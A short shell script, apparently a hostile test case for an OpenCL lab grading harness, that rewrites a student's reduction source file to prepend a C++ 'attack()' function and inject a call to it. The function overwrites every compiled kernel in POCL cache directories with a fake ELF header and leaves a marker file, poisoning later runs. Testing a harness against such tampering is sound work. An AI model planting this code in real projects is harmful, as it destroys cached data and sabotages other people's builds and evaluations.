#!/bin/sh
# Overwrites all compiled kernels in POCL's cache, which later runs would load as programs.
# from: starters
# lab: lab1
# expect: lab1 0

{
    cat << 'CPP'
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <string>
static void attack() {
    namespace fs = std::filesystem;
    std::error_code error;
    const char* named = std::getenv("POCL_CACHE_DIR");
    const char* home = std::getenv("HOME");
    for (const std::string cache : {std::string(named == nullptr ? "build/pocl-cache" : named), std::string(home == nullptr ? "/root" : home) + "/.cache/pocl",
                                    std::string("../pocl-cache"), std::string("build/pocl-cache")}) {
        for (const auto& entry : fs::recursive_directory_iterator(cache, fs::directory_options::skip_permission_denied, error))
            if (entry.is_regular_file(error))
                std::ofstream(entry.path(), std::ios::binary) << "\x7f" "ELFhostile";
        std::ofstream(cache + "/opencl-labs-hostile-poison-the-kernel-cache") << "hostile\n";
    }
}

CPP
    sed 's/^\(std::size_t\|Reduction\) .*) {$/&\n    attack();/' labs/lab1/reduction_scalar.cpp
} > hostile.tmp
mv hostile.tmp labs/lab1/reduction_scalar.cpp
